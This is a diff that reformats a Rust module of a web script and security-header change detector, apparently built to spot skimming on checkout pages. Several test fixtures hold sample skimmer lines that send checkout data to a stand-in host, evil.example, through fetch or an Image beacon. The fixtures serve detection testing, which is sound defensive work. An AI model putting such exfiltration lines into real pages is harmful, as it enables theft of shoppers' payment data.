@@ -17,13 +17,13 @@ pub mod headers;
 pub mod hints;
 pub mod policy;
 
-use crate::inventory::sha256_hex;
-use headers as csp;
 use crate::inventory::normalize;
+use crate::inventory::sha256_hex;
 use crate::model::{
-    ApprovedScript, Baseline, Finding, FindingKind, HeaderChange, Inventory, Script, ScriptKind, ScriptRef,
-    Severity, SECURITY_HEADERS,
+    ApprovedScript, Baseline, Finding, FindingKind, HeaderChange, Inventory, Script, ScriptKind, ScriptRef, Severity,
+    SECURITY_HEADERS,
 };
+use headers as csp;
 
 use similar::TextDiff;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
@@ -116,7 +116,11 @@ fn new_script(page: &str, inv: &Inventory, script: &Script, severity: Severity, 
         hints: analysis.hints,
         added_hosts: analysis.added_hosts,
         added_urls: analysis.added_urls,
-        title: format!("New {} script {}", script.kind, describe(title_url(&script.url, script.kind), &script.id, &script.frame_url, inv)),
+        title: format!(
+            "New {} script {}",
+            script.kind,
+            describe(title_url(&script.url, script.kind), &script.id, &script.frame_url, inv)
+        ),
         script: Some(script_ref(script)),
         initiator: script.initiator.clone(),
         ..Default::default()
@@ -128,8 +132,17 @@ fn removed_script(page: &str, inv: &Inventory, old: &ApprovedScript) -> Finding 
         id: finding_id(page, FindingKind::RemovedScript, &old.id, &old.sha256),
         kind: FindingKind::RemovedScript,
         severity: Severity::Low,
-        title: format!("Removed {} script {}", old.kind, describe(title_url(&old.url, old.kind), &old.id, &old.frame_url, inv)),
-        script: Some(ScriptRef { id: old.id.clone(), kind: old.kind, url: old.url.clone(), sha256: old.sha256.clone() }),
+        title: format!(
+            "Removed {} script {}",
+            old.kind,
+            describe(title_url(&old.url, old.kind), &old.id, &old.frame_url, inv)
+        ),
+        script: Some(ScriptRef {
+            id: old.id.clone(),
+            kind: old.kind,
+            url: old.url.clone(),
+            sha256: old.sha256.clone(),
+        }),
         approved_sha256: Some(old.sha256.clone()),
         ..Default::default()
     }
@@ -141,7 +154,11 @@ fn host_changes(page: &str, inv: &Inventory, baseline: &Baseline) -> Vec<Finding
     // host absolutely; it still counts as `self` when the page is on that host.
     let own_host = crate::inventory::host_of(if inv.final_url.is_empty() { &inv.url } else { &inv.final_url });
     let relative = |h: &'_ str| -> String {
-        if Some(h) == own_host.as_deref() { crate::inventory::SELF_HOST.to_string() } else { h.to_string() }
+        if Some(h) == own_host.as_deref() {
+            crate::inventory::SELF_HOST.to_string()
+        } else {
+            h.to_string()
+        }
     };
     let approved_hosts: BTreeSet<String> = baseline.hosts.iter().map(|h| relative(&h.host)).collect();
     inv.hosts
@@ -181,9 +198,8 @@ fn altered(
     });
     let renamed = if old.id != script.id { format!(", was {}", one_line(&old.id)) } else { String::new() };
     // Without the approved text nothing is known to be "added", so no hints.
-    let analysis = approved_source(&old.sha256)
-        .map(|old_src| hints::analyze(Some(&old_src), &script.source))
-        .unwrap_or_default();
+    let analysis =
+        approved_source(&old.sha256).map(|old_src| hints::analyze(Some(&old_src), &script.source)).unwrap_or_default();
     Finding {
         id: finding_id(page, FindingKind::AlteredScript, &script.id, &script.sha256),
         kind: FindingKind::AlteredScript,
@@ -317,18 +333,12 @@ fn similarity(a: &str, b: &str) -> f32 {
     if 2.0 * la.min(lb) as f32 / (la + lb) as f32 <= PAIR_MIN_RATIO {
         return 0.0;
     }
-    TextDiff::configure()
-        .deadline(Instant::now() + PAIR_DIFF_TIMEOUT)
-        .diff_chars(a, b)
-        .ratio()
+    TextDiff::configure().deadline(Instant::now() + PAIR_DIFF_TIMEOUT).diff_chars(a, b).ratio()
 }
 
 fn header_changes(page: &str, inv: &Inventory, baseline: &Baseline) -> Vec<Finding> {
-    let approved: HashMap<&str, Option<&str>> = baseline
-        .headers
-        .iter()
-        .map(|h| (h.name.as_str(), h.value.as_deref()))
-        .collect();
+    let approved: HashMap<&str, Option<&str>> =
+        baseline.headers.iter().map(|h| (h.name.as_str(), h.value.as_deref())).collect();
     let mut out = Vec::new();
     for name in SECURITY_HEADERS {
         let old = approved.get(name).copied().flatten();
@@ -509,7 +519,11 @@ mod tests {
             scripts: inv.scripts.iter().map(approve).collect(),
             headers: SECURITY_HEADERS
                 .iter()
-                .map(|n| ApprovedHeader { name: n.to_string(), value: inv.headers.get(*n).cloned(), approval: approval() })
+                .map(|n| ApprovedHeader {
+                    name: n.to_string(),
+                    value: inv.headers.get(*n).cloned(),
+                    approval: approval(),
+                })
                 .collect(),
             hosts: inv.hosts.iter().map(|h| ApprovedHost { host: h.clone(), approval: approval() }).collect(),
             ..Default::default()
@@ -541,7 +555,8 @@ mod tests {
     #[test]
     fn new_script_is_medium_or_high_on_payment_page() {
         let base = baseline_of(&inventory(vec![app()]));
-        let mut evil = script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
+        let mut evil =
+            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
         evil.initiator = Some("https://shop.example/app.js".into());
         let mut inv = inventory(vec![app(), evil]);
         let f = compare("checkout", &inv, &base, &no_sources);
@@ -553,7 +568,11 @@ mod tests {
         assert_eq!(f[0].initiator.as_deref(), Some("https://shop.example/app.js"));
         assert!(f[0].id.starts_with('F') && f[0].id.len() == 13);
 
-        inv.payment_fields.push(PaymentField { frame_url: PAGE_URL.into(), selector: "#cc".into(), reason: "autocomplete=cc-number".into() });
+        inv.payment_fields.push(PaymentField {
+            frame_url: PAGE_URL.into(),
+            selector: "#cc".into(),
+            reason: "autocomplete=cc-number".into(),
+        });
         let f = compare("checkout", &inv, &base, &no_sources);
         assert_eq!(f[0].severity, Severity::High);
     }
@@ -562,7 +581,12 @@ mod tests {
     fn altered_script_has_diff_when_source_known() {
         let old = app();
         let base = baseline_of(&inventory(vec![old.clone()]));
-        let new = script("self:/app.js", ScriptKind::External, Some("https://shop.example/app.js"), "var a=1;init(a);fetch('https://evil.example/c');");
+        let new = script(
+            "self:/app.js",
+            ScriptKind::External,
+            Some("https://shop.example/app.js"),
+            "var a=1;init(a);fetch('https://evil.example/c');",
+        );
         let inv = inventory(vec![new.clone()]);
         let f = compare("checkout", &inv, &base, &sources(&[&old.source]));
         assert_eq!(f.len(), 1);
@@ -610,7 +634,11 @@ mod tests {
         let xfo = f.iter().find(|x| x.title.starts_with("X-Frame")).unwrap();
         assert_eq!(
             xfo.header,
-            Some(HeaderChange { name: "x-frame-options".into(), approved: Some("DENY".into()), current: Some("SAMEORIGIN".into()) })
+            Some(HeaderChange {
+                name: "x-frame-options".into(),
+                approved: Some("DENY".into()),
+                current: Some("SAMEORIGIN".into())
+            })
         );
         // Sorted: medium before low.
         assert_eq!(f[2].severity, Severity::Low);
@@ -624,7 +652,8 @@ mod tests {
         let mut inv = inventory(vec![]);
         inv.headers.insert("content-security-policy".into(), "script-src 'nonce-zz99' 'self'".into());
         assert!(compare("checkout", &inv, &base, &no_sources).is_empty());
-        inv.headers.insert("content-security-policy".into(), "script-src 'nonce-zz99' 'self' https://evil.example".into());
+        inv.headers
+            .insert("content-security-policy".into(), "script-src 'nonce-zz99' 'self' https://evil.example".into());
         assert_eq!(compare("checkout", &inv, &base, &no_sources).len(), 1);
     }
 
@@ -658,7 +687,8 @@ mod tests {
     #[test]
     fn ids_are_stable_across_rescans_and_differ_by_page_and_state() {
         let base = baseline_of(&inventory(vec![app()]));
-        let evil = script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
+        let evil =
+            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal()");
         let mut inv = inventory(vec![app(), evil]);
         inv.hosts.push("evil.example".into());
         let a = compare("checkout", &inv, &base, &no_sources);
@@ -668,7 +698,8 @@ mod tests {
         let other_page = compare("cart", &inv, &base, &no_sources);
         assert_ne!(a[0].id, other_page[0].id);
         // The same script with other content is another change, so another id.
-        inv.scripts[1] = script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal(2)");
+        inv.scripts[1] =
+            script("https://evil.example/x.js", ScriptKind::External, Some("https://evil.example/x.js"), "steal(2)");
         let c = compare("checkout", &inv, &base, &no_sources);
         let new_a = a.iter().find(|f| f.kind == FindingKind::NewScript).unwrap();
         let new_c = c.iter().find(|f| f.kind == FindingKind::NewScript).unwrap();
@@ -692,7 +723,10 @@ mod tests {
         // Same severity, so ordered by kind: new_script before altered_script.
         assert_eq!(
             kinds,
-            [(FindingKind::NewScript, "main|inline|cccccccccc"), (FindingKind::AlteredScript, "main|inline|bbbbbbbbbb")]
+            [
+                (FindingKind::NewScript, "main|inline|cccccccccc"),
+                (FindingKind::AlteredScript, "main|inline|bbbbbbbbbb")
+            ]
         );
         let alt = &f[1];
         assert_eq!(alt.approved_sha256.as_deref(), Some(old.sha256.as_str()));
@@ -715,7 +749,10 @@ mod tests {
         let inv = inventory(vec![moved]);
         let f = compare("checkout", &inv, &base, &sources(&[src]));
         assert_eq!(f.iter().map(|x| x.kind).collect::<Vec<_>>(), [FindingKind::NewScript, FindingKind::RemovedScript]);
-        assert_eq!(f[0].title, "New inline script https://pay.example/f|inline|aaaaaaaaaa (frame https://pay.example/f)");
+        assert_eq!(
+            f[0].title,
+            "New inline script https://pay.example/f|inline|aaaaaaaaaa (frame https://pay.example/f)"
+        );
     }
 
     #[test]
@@ -748,14 +785,19 @@ mod tests {
         let old = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, VOLATILE);
         let base = baseline_of(&inventory(vec![old.clone()]));
         assert!(base.scripts[0].normalized_sha256.is_some());
-        let now = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &volatile_variant("ZZZZ-999", "1718999999999"));
+        let now =
+            script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &volatile_variant("ZZZZ-999", "1718999999999"));
         assert!(compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE])).is_empty());
 
         // ...but not a changed host, an appended statement or a new call.
         for changed in [
             volatile_variant("ZZZZ", "1").replace("api.shop.example", "api.shop-example.co"),
-            format!("{}new Image().src = 'https://evil.example/c?d=' + btoa(JSON.stringify(window.checkout));", volatile_variant("Z", "2")),
-            volatile_variant("Z", "3").replace("Checkout.init(window.checkout);", "send(window.checkout); Checkout.init(window.checkout);"),
+            format!(
+                "{}new Image().src = 'https://evil.example/c?d=' + btoa(JSON.stringify(window.checkout));",
+                volatile_variant("Z", "2")
+            ),
+            volatile_variant("Z", "3")
+                .replace("Checkout.init(window.checkout);", "send(window.checkout); Checkout.init(window.checkout);"),
         ] {
             let now = script("main|inline|aaaaaaaaaa", ScriptKind::Inline, None, &changed);
             let f = compare("checkout", &inventory(vec![now]), &base, &sources(&[VOLATILE]));
@@ -776,7 +818,10 @@ mod tests {
         // One of them gone is still a removal.
         let one = vec![Script { id: "main|inline|aaaaaaaaaa".into(), ..b }];
         let f = compare("checkout", &inventory(one), &base, &no_sources);
-        assert_eq!(f.iter().map(|x| (x.kind, x.script.as_ref().unwrap().id.as_str())).collect::<Vec<_>>(), [(FindingKind::RemovedScript, "main|inline|aaaaaaaaaa")]);
+        assert_eq!(
+            f.iter().map(|x| (x.kind, x.script.as_ref().unwrap().id.as_str())).collect::<Vec<_>>(),
+            [(FindingKind::RemovedScript, "main|inline|aaaaaaaaaa")]
+        );
     }
 
     #[test]
@@ -802,12 +847,20 @@ mod tests {
         old.headers.insert("content-security-policy".into(), "script-src 'self'; object-src 'none'".into());
         let base = baseline_of(&old);
         let mut inv = inventory(vec![]);
-        inv.headers.insert("content-security-policy".into(), "script-src 'self' 'unsafe-eval'; object-src 'none'".into());
+        inv.headers
+            .insert("content-security-policy".into(), "script-src 'self' 'unsafe-eval'; object-src 'none'".into());
         let f = compare("checkout", &inv, &base, &no_sources);
         assert_eq!(f[0].severity, Severity::Medium);
-        assert_eq!(f[0].title, "Content-Security-Policy weakened: script-src: added 'unsafe-eval' (weaker: allows injected code)");
-        inv.headers.insert("content-security-policy".into(), "script-src 'self'; object-src 'none'; base-uri 'none'".into());
+        assert_eq!(
+            f[0].title,
+            "Content-Security-Policy weakened: script-src: added 'unsafe-eval' (weaker: allows injected code)"
+        );
+        inv.headers
+            .insert("content-security-policy".into(), "script-src 'self'; object-src 'none'; base-uri 'none'".into());
         let f = compare("checkout", &inv, &base, &no_sources);
-        assert_eq!((f[0].severity, f[0].title.as_str()), (Severity::Low, "Content-Security-Policy tightened: base-uri: added (stricter)"));
+        assert_eq!(
+            (f[0].severity, f[0].title.as_str()),
+            (Severity::Low, "Content-Security-Policy tightened: base-uri: added (stricter)")
+        );
     }
 }
